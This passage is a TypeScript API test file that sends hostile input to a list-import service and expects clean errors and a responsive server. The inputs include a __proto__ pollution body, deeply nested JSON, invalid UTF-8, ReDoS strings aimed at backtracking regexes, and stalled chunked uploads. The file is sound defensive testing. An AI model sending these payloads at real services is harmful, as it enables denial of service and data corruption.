    outcome: { status: 400, message: /from must be a date between the years 1 and 9999/ },
  },
  {
    name: 'a job search up to the year 99999',
    kind: 'request',
    send: (ctx) => ctx.api.get('/api/v1/jobs?to=99999-01-01'),
    outcome: { status: 400, message: /to must be a date between the years 1 and 9999/ },
  },
  {
    name: 'a job id with broken percent-encoding (half a UTF-8 sequence)',
    kind: 'request',
    send: (ctx) => ctx.api.get('/api/v1/jobs/%E0%A4'),
    outcome: { status: 400, message: /broken percent-encoding/ },
  },
  {
    name: 'a column name with broken percent-encoding (a byte that is not UTF-8)',
    kind: 'request',
    send: (ctx) => ctx.api.request('PATCH', `/api/v1/lists/${ctx.list.id}/columns/%FF`, { json: { required: true } }),
    outcome: { status: 400, message: /broken percent-encoding/ },
  },
  {
    name: 'a NUL character in a list name (stopped by PostgreSQL, answered 400)',
    kind: 'request',
    send: (ctx) => ctx.api.post('/api/v1/lists', validListBody(ctx, { name: 'Evil\u0000List' })),
    outcome: { status: 400, message: /NUL character/ },
  },
  {
    name: 'a list name with bytes that are not UTF-8 (was stored as "��")',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: notUtf8Json(validListBody(ctx, { name: 'bad\u{1}name' })),
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /not valid UTF-8/ },
  },
  {
    name: 'a column name with bytes that are not UTF-8',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', {
        body: notUtf8Json(validListBody(ctx, { columns: [{ name: 'code\u{1}', dataType: 'string', isKey: true }] })),
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /not valid UTF-8/ },
  },
  {
    name: 'a row edit value with a byte that is not UTF-8 at the end of the body',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
        body: Buffer.concat([Buffer.from('{"items":[{"code":"P1","note":"x"}]}'), Buffer.from([0xe2, 0x82])]),
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /not valid UTF-8/ },
  },
  {
    name: 'an Origin header that is not a URL',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('POST', '/api/v1/lists', { json: validListBody(ctx), headers: { origin: 'not a url' } }),
    outcome: { status: 400, message: /Origin header of the request is not a URL/ },
  },
  {
    name: 'a __proto__ key in a row edit',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
        body: `{"items":[{"code":"P1","__proto__":{"note":"polluted"},"note":"x"}]}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /__proto__/ },
  },
  {
    name: 'row edit: 100,000 nested arrays as a value',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
        body: `{"items":[{"code":"P1","note":${deepArray(100_000)}}]}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /nests arrays and objects more than 32 deep/ },
  },
  {
    name: 'row edit: integer 2^63 as a JSON number',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
        body: `{"items":[{"code":"P1","qty":9223372036854775808}]}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /too large|exactly/ },
  },
  {
    name: 'row edit: integer 2^53 + 1 as a JSON number (would round to 2^53)',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
        body: `{"items":[{"code":"P1","qty":9007199254740993}]}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /qty/ },
  },
  {
    name: 'row edit: the number 1e999999 as a JSON number',
    kind: 'request',
    send: (ctx) =>
      ctx.api.request('PUT', `/api/v1/lists/${ctx.list.id}/contents?op=upsert`, {
        body: `{"items":[{"code":"P1","price":1e999999}]}`,
        headers: { 'content-type': 'application/json' },
      }),
    outcome: { status: 400, message: /price/ },
  },
];

/** A JSON body whose U+0001 characters are replaced by the bytes FF FE, which are not UTF-8 (Latin-1 "ÿþ"). */
function notUtf8Json(value: unknown): Blob {
  const parts = JSON.stringify(value).split('\\u0001');
  return new Blob(parts.flatMap((part, i) => (i ? [new Uint8Array([0xff, 0xfe]), part] : [part])));
}

let admin: Api;
let workspaceId: string;
let etcPasswdHash: string;

function sha256(content: Uint8Array): string {
  return createHash('sha256').update(content).digest('hex');
}

const byCode = (rows: Row[]) =>
  [...rows].sort((a, b) => (String(a.code) < String(b.code) ? -1 : String(a.code) > String(b.code) ? 1 : 0));

beforeAll(async () => {
  admin = await adminApi();
  workspaceId = await createWorkspace(admin);
  etcPasswdHash = sha256(await fs.readFile('/etc/passwd'));
});

async function listCount(): Promise<number> {
  return (await admin.get(`/api/v1/lists?workspaceId=${workspaceId}`)).body.count;
}

async function jobCount(listId: string): Promise<number> {
  return (await admin.get(`/api/v1/jobs?listId=${listId}`)).body.count;
}

describe('hostile and malformed input: a clear message, nothing loaded, the server keeps serving', () => {
  it('has a corpus of at least 40 cases', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CORPUS.map((c) => c.name)).size).toBe(CORPUS.length);
  });

  it.each(CORPUS.map((c) => [c.name, c] as const))('%s', async (_name, hostile) => {
    const list = await createList(admin, workspaceId, COLUMNS);
    const empty = hostile.kind === 'upload' && hostile.list === 'empty';
    if (!empty) {
      const preload = await admin.upload(list.id, PRELOAD_FILE);
      expect(preload.status, preload.text).toBe(202);
      expect((await admin.waitForJob(list.id, preload.body.id)).state).toBe('completed');
    }
    const ctx: Ctx = { api: admin, workspaceId, list, before: await allContents(admin, list.id) };
    expect(ctx.before).toEqual(empty ? [] : PRELOADED);
    const listsBefore = await listCount();
    const jobsBefore = await jobCount(list.id);
    const filesBefore = await uploadDirFiles();

    let loaded = false;
    let refusedByRequest = false;
    if (hostile.kind === 'request') {
      const response = await hostile.send(ctx);
      refusedByRequest = true;
      expect(response.status, response.text.slice(0, 1000)).toBe(hostile.outcome.status);
      if (response.status >= 400) {
        const body = expectApiError(response, hostile.outcome.status);
        expect(body.message + ' ' + body.details.join(' ')).toMatch(hostile.outcome.message);
        expect(body.message.length, 'a readable message').toBeLessThan(5_000);
      } else {
        expect(response.body.message).toMatch(hostile.outcome.message);
      }
      await hostile.outcome.check?.(response, ctx);
    } else {
      const response = await admin.upload(
        list.id,
        hostile.content(),
        hostile.fields ?? {},
        hostile.fileName ?? 'hostile.csv',
      );
      const outcome = hostile.outcome;
      refusedByRequest = response.status >= 400;
      if (hostile.probeWhileRunning && response.status === 202) {
        const slowest = await slowestHealthAnswer(baseUrl(), 4_000);
        expect
          .soft(slowest, `the server stopped answering /api/health for ${slowest} ms while the job ran`)
          .toBeLessThan(2_000);
      }
      if ('loaded' in outcome) {
        expect(response.status, response.text.slice(0, 1000)).toBe(202);
        const job = (await admin.waitForJob(list.id, response.body.id)) as JobBody;
        expect(job.state, JSON.stringify(job.errors).slice(0, 1000)).toBe('completed');
        expect(byCode(await allContents(admin, list.id))).toEqual(byCode([...ctx.before, ...outcome.loaded]));
        await outcome.checkLoaded?.(ctx, job);
        loaded = true;
      } else if (!('reject' in outcome)) {
        const body = expectApiError(response, outcome.status);
        expect(body.message + ' ' + body.details.join(' ')).toMatch(outcome.message);
      } else if (response.status === 202) {
        const job = (await admin.waitForJob(list.id, response.body.id, 'importJobs', 90_000)) as JobBody;
        expect(job.state, `expected the job to fail: ${JSON.stringify(job.results)}`).toBe('failed');
        expect(job.errors.length).toBeGreaterThan(0);
        const first = job.errors[0]!;
        expect(first.message).toMatch(outcome.reject);
        expect(first.remediation.length, 'says how to fix it').toBeGreaterThan(10);
        if (outcome.remediation) expect(first.remediation).toMatch(outcome.remediation);
        outcome.checkMessage?.(first.message, ctx);
      } else {
        const body = expectApiError(response, outcome.status ?? response.status);
        expect(response.status).toBeGreaterThanOrEqual(400);
        expect(response.status).toBeLessThan(500);
        expect(body.message).toMatch(outcome.reject);
        outcome.checkMessage?.(body.message, ctx);
      }
    }

    // Nothing loaded, nothing created, nothing left behind by a refused request.
    if (!loaded) expect(await allContents(admin, list.id)).toEqual(ctx.before);
    expect(await listCount()).toBe(listsBefore);
    if (refusedByRequest) {
      expect(await jobCount(list.id)).toBe(jobsBefore);
      expect(await uploadDirFiles()).toEqual(filesBefore);
    }
    expect((await admin.get(`/api/v1/lists/${list.id}/state`)).text).toBe('developing');
    // The server keeps serving.
    const health = await new Api(baseUrl()).get('/api/health');
    expect(health.status).toBe(200);
  });
});

/**
 * Column patterns used to run on JavaScript's backtracking RegExp: `(a+)+` and a published email
 * pattern held the event loop for seconds per value (every request, health included, waited).
 * Patterns now run in linear time (RE2); what RE2 cannot run is refused when the list is made.
 */
describe('column patterns cannot freeze the server', () => {
  const NESTED = '(a+)+';
  const EMAIL = '([a-zA-Z0-9_.-])+@(([a-zA-Z0-9-])+\\.)+([a-zA-Z0-9]{2,4})+';
  const NESTED_ATTACK = `${'a'.repeat(29)}!`;
  const EMAIL_ATTACK = `a@a.${'a'.repeat(56)}!`;
  /** Far below the seconds a backtracking pattern held the server, far above a busy machine's jitter. */
  const FAST_MS = 1_000;
  let list: { id: string };

  beforeAll(async () => {
    list = await createList(admin, workspaceId, [
      { name: 'id', dataType: 'integer', isKey: true },
      { name: 'nested', dataType: 'string', pattern: NESTED },
      { name: 'email', dataType: 'string', pattern: EMAIL },
    ]);
  });

  it('answers a row edit with the hostile values at once, and /api/health meanwhile', async () => {
    const edit = admin.put(`/api/v1/lists/${list.id}/contents?op=upsert`, {
      items: [{ id: 1, nested: NESTED_ATTACK, email: EMAIL_ATTACK }],
    });
    const { result, slowest } = await healthWhile(baseUrl(), edit);
    const body = expectApiError(result, 400);
    expect(body.details.join(' ')).toMatch(/"nested" "a{29}!" does not have the expected format/);
    expect(body.details.join(' ')).toMatch(/"email" "a@a\.a+.*" does not have the expected format/);
    expect(slowest, `/api/health took ${Math.round(slowest)} ms during the row edit`).toBeLessThan(FAST_MS);
  });

  it('fails an import of the hostile values at once, and /api/health answers meanwhile', async () => {
    const content = file('id,nested,email', `1,${NESTED_ATTACK},jane@example.com`, `2,aaaa,${EMAIL_ATTACK}`);
    const response = await admin.upload(list.id, content);
    expect(response.status, response.text).toBe(202);
    const { result: job, slowest } = await healthWhile(baseUrl(), admin.waitForJob(list.id, response.body.id));
    expect(job.state).toBe('failed');
    expect(job.errors.map((e: { row: number; column: string }) => `${e.row}:${e.column}`)).toEqual([
      '2:nested',
      '3:email',
    ]);
    expect(slowest, `/api/health took ${Math.round(slowest)} ms during the import`).toBeLessThan(FAST_MS);
    expect(await allContents(admin, list.id)).toEqual([]);
  });

  it('still loads the values these patterns accept', async () => {
    const job = await admin.waitForJob(
      list.id,
      (await admin.upload(list.id, file('id,nested,email', '1,aaa,jane.doe@example.co.uk'))).body.id,
    );
    expect(job.state, JSON.stringify(job.errors)).toBe('completed');
  });

  it('refuses a pattern RE2 cannot run when a list is created or its columns change, naming the column', async () => {
    const created = await admin.post('/api/v1/lists', {
      name: uniqueName('Lookahead'),
      workspaceId,
      columns: [
        { name: 'id', dataType: 'integer', isKey: true },
        { name: 'password', dataType: 'string', pattern: '(?=.*\\d).{8,}' },
      ],
    });
    const body = expectApiError(created, 400);
    expect(body.message).toContain('Column "password": the pattern uses a lookahead');
    expect(body.details.join(' ')).toContain('.*[0-9].*');

    const empty = await createList(admin, workspaceId, [{ name: 'id', dataType: 'integer', isKey: true }]);
    const changed = await admin.put(`/api/v1/lists/${empty.id}`, {
      columns: [
        { name: 'id', dataType: 'integer', isKey: true },
        { name: 'code', dataType: 'string', pattern: '([a-z])\\1' },
      ],
    });
    expect(expectApiError(changed, 400).message).toContain('Column "code": the pattern repeats an earlier group');
    expect((await admin.get(`/api/v1/lists/${empty.id}`)).body.columns).toHaveLength(1);
  });
});

/**
 * A request whose multipart body starts and then stalls, as a slow upload does: the server has its
 * headers and waits for the rest. `close()` drops the connection.
 */
function stalledUpload(api: Api, urlPath: string, field = 'file'): { answered: () => boolean; close: () => void } {
  const boundary = `stall${Date.now()}`;
  const request = http.request(`${api.baseUrl}${urlPath}`, {
    method: 'POST',
    headers: {
      'x-auth-jwt': api.token!,
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'transfer-encoding': 'chunked',
    },
  });
  let answered = false;
  request.on('error', () => {});
  request.on('response', (response) => {
    answered = true;
    response.resume();
  });
  request.write(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="slow"\r\n\r\n{"id": 1}\n`);
  return { answered: () => answered, close: () => request.destroy() };
}

/**
 * Holds two stalled uploads of `api` to `urlPath` open until `probe` answers 429 while both still
 * wait (a stalled upload that raced a probe for a place was refused, so another is opened).
 */
async function withTwoStalledUploads(
  api: Api,
  urlPath: string,
  field: string,
  probe: () => Promise<ApiResponse>,
): Promise<{ refused: ApiResponse; close: () => void }> {
  const stalled: ReturnType<typeof stalledUpload>[] = [];
  const close = () => stalled.forEach((s) => s.close());
  let refused: ApiResponse | undefined;
  try {
    await waitUntil(async () => {
      for (let i = 0; i < 2; i++)
        if (!stalled[i] || stalled[i]!.answered()) stalled[i] = stalledUpload(api, urlPath, field);
      refused = await probe();
      return refused.status === 429 && stalled.every((s) => !s.answered());
    });
  } catch (error) {
    close();
    throw error;
  }
  return { refused: refused!, close };
}

/**
 * Each validate-input / preview / submit-job ran the script in a new worker thread with a 512 MB
 * heap, without limit: four at once added 2.1 GB; 22 import previews of 1M rows at once held every
 * database connection. Now a process runs 2 of each at once (CUSTOM_IMPORT_SANDBOXES,
 * IMPORT_PREVIEWS) and queues a few more, and a user holds at most 2 places of each.
 */
describe('heavy requests are bounded per user and per process', () => {
  const JSONL = '0.0.1-json-records';

  it("refuses a user's third request at once with 429 while two of theirs are uploading; others go on", async () => {
    const list = await createList(admin, workspaceId, [{ name: 'id', dataType: 'integer', isKey: true }]);
    const hog = await userWithRole(admin, workspaceId, 'editor');
    const other = await userWithRole(admin, workspaceId, 'editor');
    const path = `/api/v1/view/${workspaceId}/custom-import/${JSONL}/preview`;
    const preview = (api: Api) => {
      const form = new FormData();
      form.append('list', list.id);
      form.append('file', new Blob(['{"id": 7}\n']), 'people.jsonl');
      return api.request('POST', path, { body: form });
    };
    const filesBefore = await uploadDirFiles();
    const { refused, close } = await withTwoStalledUploads(hog, path, 'file', () => preview(hog));
    try {
      const body = expectApiError(refused, 429, 42900);
      expect(body.message).toBe(
        'You already have 2 custom import scripts running or waiting; at most 2 run at a time.',
      );
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      const others = await preview(other);
      expect(others.status, others.text).toBe(200);
      expect(others.body.payload.rows).toEqual([['1 (line 1)', '7']]);
    } finally {
      close();
    }
    // Their places are given back when the uploads are dropped, and nothing they sent is kept.
    await waitUntil(async () => (await preview(hog)).status === 200);
    await waitUntil(async () => (await uploadDirFiles()).length === filesBefore.length);
    expect(await uploadDirFiles()).toEqual(filesBefore);
  });

  it("refuses a user's third list proposal at once with 429 while two of theirs are uploading", async () => {
    const hog = await userWithRole(admin, workspaceId, 'admin');
    const other = await userWithRole(admin, workspaceId, 'admin');
    const path = '/api/v1/lists/guess';
    const guess = (api: Api) => {
      const form = new FormData();
      form.append('dataFile', new Blob(['id,name\n1,Ann\n']), 'people.csv');
      return api.request('POST', path, { body: form });
    };
    const filesBefore = await uploadDirFiles();
    const { refused, close } = await withTwoStalledUploads(hog, path, 'dataFile', () => guess(hog));
    try {
      expect(expectApiError(refused, 429, 42900).message).toBe(
        'You already have 2 list proposals running or waiting; at most 2 run at a time.',
      );
      const others = await guess(other);
      expect(others.status, others.text).toBe(200);
      expect(others.body.columns.map((c: { name: string }) => c.name)).toEqual(['id', 'name']);
    } finally {
      close();
    }
    await waitUntil(async () => (await guess(hog)).status === 200);
    await waitUntil(async () => (await uploadDirFiles()).length === filesBefore.length);
    expect(await uploadDirFiles()).toEqual(filesBefore);
  });

  it("refuses a user's third import preview at once with 429 while two of theirs are uploading", async () => {
    const list = await createList(admin, workspaceId, COLUMNS);
    const hog = await userWithRole(admin, workspaceId, 'editor');
    const other = await userWithRole(admin, workspaceId, 'editor');
    const path = `/api/v1/lists/${list.id}/importPreview`;
    const preview = (api: Api) => {
      const form = new FormData();
      form.append('dataFile', new Blob([file(HEADER, line())]), 'data.csv');
      return api.request('POST', path, { body: form });
    };
    const filesBefore = await uploadDirFiles();
    const { refused, close } = await withTwoStalledUploads(hog, path, 'dataFile', () => preview(hog));
    try {
      expect(expectApiError(refused, 429, 42900).message).toBe(
        'You already have 2 import previews running or waiting; at most 2 run at a time.',
      );
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      const others = await preview(other);
      expect(others.status, others.text).toBe(200);
      expect(others.body).toMatchObject({ valid: true, rowsRead: 1, newRecords: 1 });
    } finally {
      close();
    }
    await waitUntil(async () => (await preview(hog)).status === 200);
    await waitUntil(async () => (await uploadDirFiles()).length === filesBefore.length);
    expect(await uploadDirFiles()).toEqual(filesBefore);
  });
});
